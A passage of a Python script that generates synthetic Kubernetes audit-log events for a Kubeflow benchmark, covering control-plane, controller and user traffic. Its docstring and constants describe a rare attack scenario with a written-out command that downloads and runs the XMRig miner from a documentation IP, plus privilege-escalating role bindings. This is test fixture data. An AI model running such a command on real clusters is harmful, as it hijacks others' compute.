#!/usr/bin/env python3
"""A generated Kubernetes audit log of a Kubeflow cluster, for bench/run_audit_log_bench.sh.

  make_audit_events.py N OUT.jsonl [--seed S]

Writes N audit.k8s.io/v1 `Event`s to OUT.jsonl, one compact JSON object per line, as the API
server's log backend (--audit-log-path) writes them: keys in the order the API server emits them
(kind, apiVersion, level, auditID, stage, requestURI, verb, user{username,uid,groups}, sourceIPs,
userAgent, objectRef{resource,namespace,name,apiGroup,apiVersion,subresource}, responseStatus
{metadata,code,...}, requestObject and responseObject where the level has them,
requestReceivedTimestamp, stageTimestamp, annotations{authorization.k8s.io/decision,
authorization.k8s.io/reason}), empty fields left out (omitempty), timestamps increasing with
microseconds. Prints the path on stdout; the average event size, the mix and the time it took on
stderr; next to the file, OUT.jsonl.meta.json with the same (events, bytes, sizes by level, mix,
verbs, levels, seed, the script's hash).

Deterministic: the same N, seed and script always write the same bytes. Cached: when OUT.jsonl
and its meta file exist for the same N, seed and script hash, nothing is written again
(bench/run_audit_log_bench.sh keys the file name by N and seed under out/bench/audit-log/).

The mix is that of a busy multi-tenant Kubeflow cluster under an audit policy like GKE's default
(Metadata for almost everything, Request for creates of workloads, RequestResponse for Notebooks;
health checks, events and RequestReceived stages not logged):
  - control plane, about 57 %: kubelets (system:node:<node>) renewing their Leases in
    kube-node-lease, patching nodes/status and pods/status, watching and getting the ConfigMaps
    and Secrets of their pods, requesting ServiceAccount tokens; kube-controller-manager's
    controllers (system:serviceaccount:kube-system:*-controller) updating endpointslices,
    replicasets/status, jobs/status, ..., discovery GETs; kube-controller-manager and
    kube-scheduler leader election and informers, pods/binding; kube-proxy, CoreDNS, the API
    server's own lease;
  - Kubeflow and add-on controllers, about 34 %: notebook-controller, training-operator,
    ml-pipeline (API server, persistence agent, scheduled workflows), Argo's workflow-controller,
    the profiles controller, istiod, cert-manager, Knative, KServe, Katib, the web apps
    (SubjectAccessReviews, lists), their leader-election Leases in kubeflow;
  - users, about 5 %: alice@example.com and colleagues with kubectl (get/list pods, pods/log,
    notebooks, tfjobs, workflows), and the default-editor ServiceAccounts of their notebooks
    (the Kubernetes Python client, kfp);
  - creates with a requestObject, about 4 %: Notebooks (kubeflow.org/v1, image
    kubeflownotebookswg/jupyter-scipy:v1.8.0 and others, RequestResponse, with responseObject)
    by users or the Jupyter web app, their StatefulSets, Services and VirtualServices by
    notebook-controller, their Pods by statefulset-controller (ownerReferences), TFJobs with
    tensorflow/tensorflow:2.15.0-gpu and nvidia.com/gpu limits by users and their Pods and
    Services by training-operator (TF_CONFIG), Argo Workflows by ml-pipeline and their step Pods
    by Argo (argoexec init/wait containers, ARGO_TEMPLATE), Deployment Pods by
    replicaset-controller, PVCs;
  - about 0.1 % shaped like the 2020/2021 Kubeflow mining attacks: a Pod created by
    system:serviceaccount:kubeflow-user-example-com:default-editor running ddsfdfsaadfs/dfsdf:99
    or a command that downloads and starts XMRig (`wget -q http://203.0.113.7/x -O /tmp/xmrig &&
    /tmp/xmrig -o pool.supportxmr.com:3333 -u 4...`; a made-up wallet, documentation IP), a
    pods/exec into a notebook, the istio-ingressgateway Service patched to LoadBalancer in
    istio-system, a ClusterRoleBinding of cluster-admin to a tenant's default-editor, and
    system:anonymous requests for Secrets and Pods (forbidden, or allowed where anonymous was
    bound).
Metadata events are ~600-1,100 bytes, creates with a requestObject 2-6 KB.

Fast: the events are written from precomputed JSON fragments (each actor's user, sourceIPs and
userAgent; each authorizer's annotations), with json.dumps only for request objects: about 25 s
and 80 MB of memory for a million events (1.1 GB) on the reference 2-core VM.
"""
import argparse
import bisect
import hashlib
import json
import math
import os
import random
import sys
import time

SEED = 20261207
K8S = "v1.29.4"
K8S_COMMIT = "55019c8"
KF = "v1.8.0"
ARGO = "v3.4.16"
ISTIO = "1.17.8"
START = 1_749_715_200  # 2025-06-12T08:00:00Z: where the log's clock starts
MEAN_GAP_US = 4_000    # ~250 events/s: a million events span about 70 minutes

USERS = ("alice bob carol dave erin frank grace heidi ivan judy mallory niaj olivia peggy "
         "rupert sybil trent victor walter yuki").split()
TEAMS = "vision nlp speech recsys forecasting fraud ranking mlops".split()
NOTEBOOK_IMAGES = [
    f"kubeflownotebookswg/jupyter-scipy:{KF}",
    f"kubeflownotebookswg/jupyter-pytorch-cuda-full:{KF}",
    f"kubeflownotebookswg/jupyter-tensorflow-cuda-full:{KF}",
    f"kubeflownotebookswg/codeserver-python:{KF}",
    f"kubeflownotebookswg/rstudio-tidyverse:{KF}",
]
STEP_IMAGES = ["python:3.10", "python:3.11-slim", "tensorflow/tensorflow:2.15.0-gpu",
               "pytorch/pytorch:2.1.2-cuda12.1-cudnn8-runtime", "gcr.io/ml-pipeline/kfp-launcher:2.0.5",
               "amazon/aws-cli:2.15.58", "bitnami/spark:3.5.1"]
DATASETS = "imagenet-1k coco-2017 librispeech squad-v2 c4-en wikitext-103 criteo-1tb movielens-25m cifar-100".split()
MINER_URL = "http://203.0.113.7/x"
POOL = "pool.supportxmr.com:3333"


def script_hash():
    with open(os.path.abspath(__file__), "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()[:12]


def js(value):
    """Compact JSON, as the API server writes it."""
    return json.dumps(value, separators=(",", ":"))


# ---------------------------------------------------------------------------------------------
# Resources: group, version, namespaced. URIs and objectRefs are built from these.

RES = {
    "pods": ("", "v1", True), "configmaps": ("", "v1", True), "secrets": ("", "v1", True),
    "services": ("", "v1", True), "endpoints": ("", "v1", True), "serviceaccounts": ("", "v1", True),
    "persistentvolumeclaims": ("", "v1", True), "namespaces": ("", "v1", False), "nodes": ("", "v1", False),
    "events": ("", "v1", True), "resourcequotas": ("", "v1", True), "persistentvolumes": ("", "v1", False),
    "leases": ("coordination.k8s.io", "v1", True),
    "endpointslices": ("discovery.k8s.io", "v1", True),
    "deployments": ("apps", "v1", True), "replicasets": ("apps", "v1", True), "statefulsets": ("apps", "v1", True),
    "daemonsets": ("apps", "v1", True), "controllerrevisions": ("apps", "v1", True),
    "jobs": ("batch", "v1", True), "cronjobs": ("batch", "v1", True),
    "poddisruptionbudgets": ("policy", "v1", True),
    "rolebindings": ("rbac.authorization.k8s.io", "v1", True),
    "clusterrolebindings": ("rbac.authorization.k8s.io", "v1", False),
    "subjectaccessreviews": ("authorization.k8s.io", "v1", False),
    "csinodes": ("storage.k8s.io", "v1", False),
    "notebooks": ("kubeflow.org", "v1", True), "tfjobs": ("kubeflow.org", "v1", True),
    "pytorchjobs": ("kubeflow.org", "v1", True), "profiles": ("kubeflow.org", "v1", False),
    "poddefaults": ("kubeflow.org", "v1alpha1", True),
    "experiments": ("kubeflow.org", "v1beta1", True), "trials": ("kubeflow.org", "v1beta1", True),
    "workflows": ("argoproj.io", "v1alpha1", True), "workflowtaskresults": ("argoproj.io", "v1alpha1", True),
    "scheduledworkflows": ("kubeflow.org", "v1beta1", True),
    "virtualservices": ("networking.istio.io", "v1beta1", True), "gateways": ("networking.istio.io", "v1beta1", True),
    "authorizationpolicies": ("security.istio.io", "v1beta1", True),
    "certificates": ("cert-manager.io", "v1", True), "inferenceservices": ("serving.kserve.io", "v1beta1", True),
    "revisions": ("serving.knative.dev", "v1", True), "podgroups": ("scheduling.volcano.sh", "v1beta1", True),
}


class Actor:
    """Who makes a request: the user, sourceIPs and userAgent fragments, and the annotations the
    authorizer writes for it, precomputed as JSON text."""

    def __init__(self, username, uid, groups, user_agent, ips, reason, decision="allow"):
        user = {"username": username}
        if uid:
            user["uid"] = uid
        user["groups"] = groups
        self.username = username
        self.frags = [f'"user":{js(user)},"sourceIPs":["{ip}"],"userAgent":{js(user_agent)}' for ip in ips]
        self.annotations = js({"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason})


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.rnd = self.r.random
        rnd = self.rnd
        # choice and randint from random() alone: fast, and the same sequence on every Python.
        self.choice = lambda seq: seq[int(rnd() * len(seq))]
        self.randint = lambda lo, hi: lo + int(rnd() * (hi - lo + 1))
        self.ref_cache = {}
        self.t = START * 1_000_000
        self.out = []
        self.level_verb = {}
        self.sizes = []
        self.level_bytes = {}
        self.scenario_counts = {}
        self._stamp_cache = {}
        self.build_cluster()

    # -- small values ------------------------------------------------------------------------
    def uid(self):
        h = f"{self.r.getrandbits(128):032x}"
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) & 3]}{h[17:20]}-{h[20:]}"

    def hexs(self, n):
        return f"{self.r.getrandbits(4 * n):0{n}x}"

    def suffix(self, n=5):
        rnd, alphabet = self.rnd, "bcdfghjklmnpqrstvwxz2456789"
        return "".join([alphabet[int(rnd() * 27)] for _ in range(n)])

    def rv(self):
        return str(self.randint(10_000_000, 990_000_000))

    def stamp(self, us):
        sec, frac = divmod(us, 1_000_000)
        prefix = self._stamp_cache.get(sec)
        if prefix is None:
            if len(self._stamp_cache) > 4096:
                self._stamp_cache.clear()
            prefix = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
            self._stamp_cache[sec] = prefix
        return f"{prefix}.{frac:06d}Z"

    def second(self, us):
        return self.stamp(us)[:19] + "Z"

    # -- the cluster the log is about ------------------------------------------------------------
    def build_cluster(self):
        r = self.r
        cp = ["10.128.0.2"]  # the control plane's address, as the API server sees its peers
        self.nodes = ([f"gke-kubeflow-cpu-pool-3f9a2c1d-{self.suffix(4)}" for _ in range(24)]
                      + [f"gke-kubeflow-gpu-a100-7b12e0f4-{self.suffix(4)}" for _ in range(8)]
                      + [f"gke-kubeflow-gpu-l4-c03d9a57-{self.suffix(4)}" for _ in range(8)])
        self.node_ip = {n: f"10.128.0.{10 + i}" for i, n in enumerate(self.nodes)}
        kubelet_ua = f"kubelet/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}"
        self.kubelets = {n: Actor(f"system:node:{n}", "", ["system:nodes", "system:authenticated"], kubelet_ua,
                                  [self.node_ip[n]], "") for n in self.nodes}

        def rbac(kind, binding, role, subject_kind, subject):
            return f'RBAC: allowed by {kind} "{binding}" of ClusterRole "{role}" to {subject_kind} "{subject}"'

        def kcm_sa(name):
            return Actor(f"system:serviceaccount:kube-system:{name}", self.uid(),
                         ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
                         f"kube-controller-manager/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}/system:serviceaccount:kube-system:{name}",
                         cp, rbac("ClusterRoleBinding", f"system:controller:{name}", f"system:controller:{name}",
                                  "ServiceAccount", f"{name}/kube-system"))

        self.kcm_sa = kcm_sa
        self.kcm = Actor("system:kube-controller-manager", "", ["system:authenticated"],
                         f"kube-controller-manager/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}/shared-informers", cp,
                         rbac("ClusterRoleBinding", "system:kube-controller-manager", "system:kube-controller-manager",
                              "User", "system:kube-controller-manager"))
        self.kcm_le = Actor("system:kube-controller-manager", "", ["system:authenticated"],
                            f"kube-controller-manager/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}/leader-election", cp,
                            rbac("ClusterRoleBinding", "system:kube-controller-manager", "system:kube-controller-manager",
                                 "User", "system:kube-controller-manager"))
        self.sched = Actor("system:kube-scheduler", "", ["system:authenticated"],
                           f"kube-scheduler/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}/scheduler", cp,
                           rbac("ClusterRoleBinding", "system:kube-scheduler", "system:kube-scheduler", "User",
                                "system:kube-scheduler"))
        self.sched_le = Actor("system:kube-scheduler", "", ["system:authenticated"],
                              f"kube-scheduler/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}/leader-election", cp,
                              rbac("ClusterRoleBinding", "system:kube-scheduler", "system:kube-scheduler", "User",
                                   "system:kube-scheduler"))
        self.apiserver = Actor("system:apiserver", self.uid(), ["system:masters"],
                               f"kube-apiserver/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}", ["::1"], "")
        self.apiserver_id = f"apiserver-{self.hexs(26)}"

        def pod_sa(ns, name, ua, binding=None, role=None, n_ips=2):
            return Actor(f"system:serviceaccount:{ns}:{name}", self.uid(),
                         ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"], ua,
                         [f"10.4.{self.randint(0, 63)}.{self.randint(2, 254)}" for _ in range(n_ips)],
                         rbac("ClusterRoleBinding", binding or name, role or name, "ServiceAccount", f"{name}/{ns}"))

        go = "(linux/amd64) kubernetes/$Format"
        self.kube_proxy = pod_sa("kube-system", "kube-proxy", f"kube-proxy/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}",
                                 "system:node-proxier", "system:node-proxier", n_ips=8)
        self.coredns = pod_sa("kube-system", "coredns", f"coredns/v0.0.0 {go}", "system:coredns", "system:coredns")
        self.metrics_server = pod_sa("kube-system", "metrics-server", f"metrics-server/v0.6.4 {go}",
                                     "system:metrics-server", "system:metrics-server", 1)
        kf = "kubeflow"
        self.nb_ctrl = pod_sa(kf, "notebook-controller-service-account", f"manager/v0.0.0 {go}",
                              "notebook-controller-role-binding", "notebook-controller-role", 1)
        self.training = pod_sa(kf, "training-operator", f"training-operator/v0.0.0 {go}", n_ips=1)
        self.ml_pipeline = pod_sa(kf, "ml-pipeline", f"apiserver/v0.0.0 {go}", n_ips=1)
        self.persistence = pod_sa(kf, "ml-pipeline-persistenceagent", f"persistence_agent/v0.0.0 {go}",
                                  "ml-pipeline-persistenceagent-binding", "ml-pipeline-persistenceagent-role", 1)
        self.swf = pod_sa(kf, "ml-pipeline-scheduledworkflow", f"controller/v0.0.0 {go}",
                          "ml-pipeline-scheduledworkflow-binding", "ml-pipeline-scheduledworkflow-role", 1)
        self.argo = pod_sa(kf, "argo", f"workflow-controller/{ARGO} argo-workflows/{ARGO} argo-controller",
                           "argo-binding", "argo-cluster-role", 1)
        self.profiles = pod_sa(kf, "profiles-controller-service-account", f"manager/v0.0.0 {go}",
                               "profiles-cluster-rolebinding", "cluster-admin", 1)
        self.jwa = pod_sa(kf, "jupyter-web-app-service-account", "OpenAPI-Generator/25.3.0/python",
                          "jupyter-web-app-cluster-role-binding", "jupyter-web-app-cluster-role", 1)
        self.vwa = pod_sa(kf, "volumes-web-app-service-account", "OpenAPI-Generator/25.3.0/python",
                          "volumes-web-app-cluster-role-binding", "volumes-web-app-cluster-role", 1)
        self.dashboard = pod_sa(kf, "centraldashboard", "OpenAPI-Generator/0.1.0/javascript", n_ips=1)
        self.metadata_writer = pod_sa(kf, "kubeflow-pipelines-metadata-writer", "OpenAPI-Generator/25.3.0/python",
                                      "kubeflow-pipelines-metadata-writer-binding", "kubeflow-pipelines-metadata-writer-role", 1)
        self.cache_server = pod_sa(kf, "kubeflow-pipelines-cache", "OpenAPI-Generator/25.3.0/python",
                                   "kubeflow-pipelines-cache-binding", "kubeflow-pipelines-cache-role", 1)
        self.katib = pod_sa(kf, "katib-controller", f"manager/v0.0.0 {go}", n_ips=1)
        self.kserve = pod_sa(kf, "kserve-controller-manager", f"manager/v0.0.0 {go}",
                             "kserve-manager-rolebinding", "kserve-manager-role", 1)
        self.istiod = pod_sa("istio-system", "istiod", f"pilot-discovery/{ISTIO}", "istiod-clusterrole-istio-system",
                             "istiod-clusterrole-istio-system")
        self.certm = pod_sa("cert-manager", "cert-manager", f"cert-manager-certificates-issuing/v1.12.2 {go}",
                            "cert-manager-controller-certificates", "cert-manager-controller-certificates", 1)
        self.knative = pod_sa("knative-serving", "controller", f"controller/v0.0.0 {go}",
                              "knative-serving-controller-admin", "knative-serving-admin", 1)

        # Tenants: one profile namespace per user (the default profile among them), with their pods.
        self.tenants = ["kubeflow-user-example-com"] + [f"{u}" for u in USERS] + [f"team-{t}" for t in TEAMS]
        self.users = {}
        ua = f"kubectl/{K8S} (linux/amd64) kubernetes/{K8S_COMMIT}"
        for i, ns in enumerate(self.tenants):
            # The owner of a personal profile; a team's profile has a contributor (kubeflow-edit).
            u = (["user"] + USERS)[i] if i <= len(USERS) else self.choice(USERS)
            email = f"{u}@example.com"
            binding = (f'RoleBinding "namespaceAdmin/{ns}" of ClusterRole "kubeflow-admin"' if i <= len(USERS) else
                       f'RoleBinding "user-{u}-example-com-clusterrole-edit/{ns}" of ClusterRole "kubeflow-edit"')
            self.users[ns] = Actor(email, "", ["oidc:kubeflow-users", "system:authenticated"], ua,
                                   [f"10.8.0.{self.randint(2, 254)}"], f'RBAC: allowed by {binding} to User "{email}"')
        self.editors = {ns: Actor(f"system:serviceaccount:{ns}:default-editor", self.uid(),
                                  ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"],
                                  "OpenAPI-Generator/28.1.0/python", [f"10.4.{self.randint(0, 63)}.{self.randint(2, 254)}"],
                                  f'RBAC: allowed by RoleBinding "default-editor/{ns}" of ClusterRole "kubeflow-edit" to ServiceAccount "default-editor/{ns}"')
                        for ns in self.tenants}
        self.pods = []        # (namespace, name, node)
        self.notebooks = []   # (namespace, name)
        self.tfjobs = []
        self.workflows = []
        for ns in self.tenants:
            for _ in range(self.randint(1, 4)):
                nb = f"{self.choice(['scratch', 'eda', 'train', 'demo', 'llm', 'cv', 'nb'])}-{self.suffix(4)}"
                self.notebooks.append((ns, nb))
                self.pods.append((ns, f"{nb}-0", self.choice(self.nodes)))
            for _ in range(self.randint(2, 8)):
                job = f"{self.choice(['mnist', 'resnet', 'bert-ft', 'dist-train', 'tune'])}-{self.suffix(5)}"
                self.tfjobs.append((ns, job))
                for k in range(self.randint(1, 4)):
                    self.pods.append((ns, f"{job}-worker-{k}", self.choice(self.nodes[24:])))
            for _ in range(self.randint(3, 12)):
                wf = f"{self.choice(['training-pipeline', 'etl', 'eval', 'xgboost-train', 'preprocess'])}-{self.suffix(5)}"
                self.workflows.append((ns, wf))
                for k in range(self.randint(1, 5)):
                    self.pods.append((ns, f"{wf}-system-container-impl-{self.randint(10**9, 4 * 10**9)}", self.choice(self.nodes)))
        for name, ns in (("ml-pipeline", "kubeflow"), ("centraldashboard", "kubeflow"), ("istiod", "istio-system"),
                         ("istio-ingressgateway", "istio-system"), ("coredns", "kube-system"),
                         ("metrics-server", "kube-system"), ("workflow-controller", "kubeflow"),
                         ("notebook-controller-deployment", "kubeflow"), ("training-operator", "kubeflow"),
                         ("activator", "knative-serving"), ("cert-manager", "cert-manager")):
            for _ in range(self.randint(1, 3)):
                self.pods.append((ns, f"{name}-{self.hexs(10)}-{self.suffix()}", self.choice(self.nodes)))
        self.namespaces = self.tenants + ["kubeflow", "kube-system", "istio-system", "knative-serving", "cert-manager",
                                          "kube-node-lease", "default", "auth"]
        self.controllers = {
            # kube-controller-manager's controllers: (verb, resource, subresource, weight)
            "endpointslice-controller": [("update", "endpointslices", "", 5), ("get", "endpointslices", "", 1),
                                         ("create", "endpointslices", "", 1)],
            "endpoint-controller": [("update", "endpoints", "", 3), ("get", "endpoints", "", 1)],
            "replicaset-controller": [("update", "replicasets", "status", 3), ("list", "pods", "", 1)],
            "deployment-controller": [("update", "deployments", "status", 3), ("patch", "replicasets", "", 1)],
            "job-controller": [("update", "jobs", "status", 3), ("patch", "pods", "", 2), ("get", "jobs", "", 1)],
            "statefulset-controller": [("update", "statefulsets", "status", 2), ("list", "controllerrevisions", "", 1),
                                       ("get", "pods", "", 1)],
            "generic-garbage-collector": [("list", "pods", "", 1), ("watch", "replicasets", "", 1), ("get", "pods", "", 1)],
            "namespace-controller": [("get", "namespaces", "", 1)],
            "resourcequota-controller": [("list", "resourcequotas", "", 1), ("watch", "persistentvolumeclaims", "", 1)],
            "ttl-after-finished-controller": [("get", "jobs", "", 1), ("delete", "jobs", "", 1)],
            "pvc-protection-controller": [("get", "persistentvolumeclaims", "", 1), ("list", "pods", "", 1)],
            "root-ca-cert-publisher": [("get", "configmaps", "", 1), ("update", "configmaps", "", 1)],
            "disruption-controller": [("update", "poddisruptionbudgets", "status", 1)],
            "cronjob-controller": [("list", "cronjobs", "", 1), ("list", "jobs", "", 1)],
            "pod-garbage-collector": [("list", "pods", "", 1), ("delete", "pods", "", 1)],
            "node-controller": [("get", "nodes", "", 1), ("patch", "nodes", "", 1), ("list", "pods", "", 1)],
        }
        ctrl_weight = {"endpointslice-controller": 5, "endpoint-controller": 3, "replicaset-controller": 3,
                       "deployment-controller": 2, "job-controller": 3, "statefulset-controller": 2,
                       "generic-garbage-collector": 3, "namespace-controller": 1, "resourcequota-controller": 2,
                       "ttl-after-finished-controller": 1, "pvc-protection-controller": 1, "root-ca-cert-publisher": 1,
                       "disruption-controller": 1, "cronjob-controller": 1, "pod-garbage-collector": 1,
                       "node-controller": 2}
        self.ctrl_actors = {name: kcm_sa(name) for name in self.controllers}
        self.ctrl_pick = self.weighted([(w, name) for name, w in ctrl_weight.items()])
        self.ctrl_ops = {name: self.weighted([(w, (v, res, sub)) for v, res, sub, w in ops])
                         for name, ops in self.controllers.items()}
        self.first_notebooks = len(self.notebooks)  # the ones with a pod
        self.pods_by_ns = {}
        for pod in self.pods:
            self.pods_by_ns.setdefault(pod[0], []).append(pod)
        self.anonymous = Actor("system:anonymous", "", ["system:unauthenticated"], "python-requests/2.31.0",
                               ["203.0.113.7", "198.51.100.23", "198.51.100.81"], "")
        # Made up (random base58 after the 4 of a Monero address): no one's wallet.
        base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
        self.wallet = "4" + "".join([self.choice(base58) for _ in range(94)])

    def weighted(self, items):
        """A picker: returns one of items' values with the given weights (deterministic)."""
        total = float(sum(w for w, _ in items))
        cum, acc = [], 0.0
        for w, _ in items:
            acc += w / total
            cum.append(acc)
        values = [v for _, v in items]
        last = len(values) - 1
        rnd = self.rnd
        return lambda: values[min(bisect.bisect(cum, rnd()), last)]

    # -- the event -------------------------------------------------------------------------------
    def emit(self, actor, verb, resource, namespace="", name="", subresource="", query="", level="Metadata",
             code=200, stage="ResponseComplete", latency_us=None, request_object=None, response_object=None,
             uri=None, annotations=None, status=None):
        rnd = self.rnd
        self.t += int(-MEAN_GAP_US * math.log(1.0 - rnd())) + 1  # exponential gaps: a Poisson stream
        t1 = self.t
        if latency_us is None:
            latency_us = 300 + int(rnd() * 8700) if verb != "list" else 2000 + int(rnd() * 88000)
        if resource:
            cached = self.ref_cache.get((resource, namespace))
            if cached is None:
                group, version, namespaced = RES[resource]
                ns = namespace if namespaced else ""
                base = (f"/apis/{group}/{version}" if group else "/api/v1") + (f"/namespaces/{ns}" if ns else "")
                head = '{"resource":"' + resource + '"' + (',"namespace":"' + ns + '"' if ns else "")
                tail = (',"apiGroup":"' + group + '"' if group else "") + ',"apiVersion":"' + version + '"'
                cached = self.ref_cache[(resource, namespace)] = (f"{base}/{resource}", head, tail)
            path, head, tail = cached
            if name:
                path = f"{path}/{name}"
                head = f'{head},"name":"{name}"'
            if subresource:
                path = f"{path}/{subresource}"
                tail = f'{tail},"subresource":"{subresource}"'
            oref = f',"objectRef":{head}{tail}}}'
        else:
            path, oref = "", ""
        if uri is None:
            uri = path + query
        if status is None:
            status = f'{{"metadata":{{}},"code":{code}}}'
        frags = actor.frags
        objects = ""
        if request_object is not None:
            objects = ',"requestObject":' + request_object
        if response_object is not None:
            objects += ',"responseObject":' + response_object
        h = f"{self.r.getrandbits(128):032x}"  # auditID: a version 4 UUID
        text = (f'{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"{level}","auditID":"{h[:8]}-{h[8:12]}-4{h[13:16]}-'
                f'{"89ab"[int(h[16], 16) & 3]}{h[17:20]}-{h[20:]}","stage":"{stage}","requestURI":'
                f'{js(uri) if chr(34) in uri else chr(34) + uri + chr(34)},"verb":"{verb}",{frags[int(rnd() * len(frags))]}{oref}'
                f',"responseStatus":{status}{objects},"requestReceivedTimestamp":"{self.stamp(t1)}",'
                f'"stageTimestamp":"{self.stamp(t1 + latency_us)}","annotations":{annotations or actor.annotations}}}\n')
        self.out.append(text)
        size = len(text) - 1
        self.sizes.append(size)
        key = (level, verb)
        self.level_verb[key] = self.level_verb.get(key, 0) + 1
        self.level_bytes[level] = self.level_bytes.get(level, 0) + size

    def watch_query(self):
        t = self.randint(300, 599)
        return (f"?allowWatchBookmarks=true&resourceVersion={self.rv()}&timeout={t // 60}m{t % 60}s"
                f"&timeoutSeconds={t}&watch=true")

    def list_query(self):
        return "?limit=500&resourceVersion=0" if self.rnd() < 0.6 else "?resourceVersion=0"

    def read(self, actor, verb, resource, namespace="", name="", subresource=""):
        """get / list / watch, with the query strings and stages clients use."""
        if verb == "watch":
            started = self.rnd() < 0.5
            self.emit(actor, "watch", resource, namespace, "", "", self.watch_query(),
                      stage="ResponseStarted" if started else "ResponseComplete",
                      latency_us=self.randint(200, 2000) if started else self.randint(300, 599) * 1_000_000)
        elif verb == "list":
            self.emit(actor, "list", resource, namespace, "", "", self.list_query())
        else:
            self.emit(actor, verb, resource, namespace, name, subresource, "?timeout=10s" if self.rnd() < 0.3 else "")

    def not_found(self, resource, name):
        group = RES[resource][0]
        return js({"metadata": {}, "status": "Failure",
                   "message": f'{resource}{"." + group if group else ""} "{name}" not found', "reason": "NotFound",
                   "details": {"name": name, "group": group, "kind": resource} if group else {"name": name, "kind": resource},
                   "code": 404})

    def conflict(self, resource, name):
        group = RES[resource][0]
        full = f'{resource}{"." + group if group else ""}'
        return js({"metadata": {}, "status": "Failure",
                   "message": f'Operation cannot be fulfilled on {full} "{name}": the object has been modified; '
                              "please apply your changes to the latest version and try again",
                   "reason": "Conflict", "details": {"name": name, "group": group, "kind": resource}, "code": 409})

    # -- control plane ---------------------------------------------------------------------------
    kubelet_watched = [("configmaps", "kube-root-ca.crt"), ("configmaps", "kube-root-ca.crt"),
                       ("configmaps", "istio-ca-root-cert"), ("configmaps", "metadata-grpc-configmap"),
                       ("secrets", "mlpipeline-minio-artifact"), ("secrets", "regcred"), ("secrets", "hf-token")]

    def kubelet_lease(self):
        node = self.choice(self.nodes)
        self.emit(self.kubelets[node], "update", "leases", "kube-node-lease", node, query="?timeout=10s")

    def kubelet_lease_get(self):
        node = self.choice(self.nodes)
        self.emit(self.kubelets[node], "get", "leases", "kube-node-lease", node, query="?timeout=10s")

    def kubelet_node_status(self):
        node = self.choice(self.nodes)
        self.emit(self.kubelets[node], "patch", "nodes", "", node, "status", "?timeout=10s")

    def kubelet_pod_status(self):
        ns, pod, node = self.choice(self.pods)
        self.emit(self.kubelets[node], "patch", "pods", ns, pod, "status")

    def kubelet_config(self):
        ns, pod, node = self.choice(self.pods)
        actor = self.kubelets[node]
        x = self.rnd()
        if x < 0.55:
            res, name = self.choice(self.kubelet_watched)
            t = self.randint(300, 599)
            query = (f"?allowWatchBookmarks=true&fieldSelector=metadata.name%3D{name}&resourceVersion={self.rv()}"
                     f"&timeout={t // 60}m{t % 60}s&timeoutSeconds={t}&watch=true")
            started = self.rnd() < 0.5
            self.emit(actor, "watch", res, ns, "", "", query, stage="ResponseStarted" if started else "ResponseComplete",
                      latency_us=self.randint(200, 2000) if started else t * 1_000_000)
        elif x < 0.85:
            self.emit(actor, "get", "configmaps", ns, self.choice(["kube-root-ca.crt", "istio-ca-root-cert"]))
        else:
            self.emit(actor, "get", "secrets", ns, self.choice(["mlpipeline-minio-artifact", "regcred"]))

    def kubelet_misc(self):
        ns, pod, node = self.choice(self.pods)
        actor = self.kubelets[node]
        x = self.rnd()
        if x < 0.4:
            self.emit(actor, "get", "nodes", "", node, query="?resourceVersion=0&timeout=10s")
        elif x < 0.8:
            self.emit(actor, "get", "pods", ns, pod)
        else:
            self.read(actor, "watch", "services")

    def kubelet_token(self):
        ns, pod, node = self.choice(self.pods)
        sa = "default-editor" if ns in self.editors else "default"
        self.emit(self.kubelets[node], "create", "serviceaccounts", ns, sa, "token", code=201)

    def kcm_controllers(self):
        name = self.ctrl_pick()
        verb, res, sub = self.ctrl_ops[name]()
        actor = self.ctrl_actors[name]
        ns = self.choice(self.namespaces)
        if verb in ("list", "watch"):
            self.read(actor, verb, res, "" if self.rnd() < 0.5 else ns)
            return
        if res == "pods" or res == "jobs":
            ns, obj, _ = self.choice(self.pods)
            if res == "jobs":
                obj = obj.rsplit("-", 1)[0]
        elif res == "nodes":
            obj = self.choice(self.nodes)
        elif res == "namespaces":
            obj = ns
        elif res == "configmaps":
            obj = "kube-root-ca.crt"
        elif res == "endpointslices":
            obj = f"{self.choice(['ml-pipeline', 'istiod', 'kube-dns', 'katib-ui', 'notebook'])}-{self.suffix()}"
        else:
            obj = f"{self.choice(['ml-pipeline', 'centraldashboard', 'istiod', 'minio', 'mysql', 'cache-server', 'jupyter'])}-{self.hexs(10)}" \
                if res in ("replicasets", "controllerrevisions") else self.choice(
                    ["ml-pipeline", "centraldashboard", "istiod", "minio", "mysql", "cache-server", "katib-ui", "coredns"])
        if verb == "create":
            self.emit(actor, verb, res, ns, "", code=201)
        elif verb in ("update", "patch") and self.rnd() < 0.03:
            self.emit(actor, verb, res, ns, obj, sub, code=409, status=self.conflict(res, obj))
        elif verb == "get" and self.rnd() < 0.05:
            self.emit(actor, verb, res, ns, obj, sub, code=404, status=self.not_found(res, obj))
        else:
            self.emit(actor, verb, res, ns, obj, sub, code=200)

    def discovery(self):
        actor = self.ctrl_actors[self.choice(["resourcequota-controller", "generic-garbage-collector", "namespace-controller"])]
        gv = self.choice(["/apis/metrics.k8s.io/v1beta1", "/apis/kubeflow.org/v1", "/apis/argoproj.io/v1alpha1",
                          "/apis/networking.istio.io/v1beta1", "/apis/serving.kserve.io/v1beta1", "/api/v1", "/apis"])
        self.emit(actor, "get", "", uri=gv + "?timeout=32s", annotations=self.discovery_annotations)

    discovery_annotations = js({"authorization.k8s.io/decision": "allow",
                                "authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "system:discovery" of '
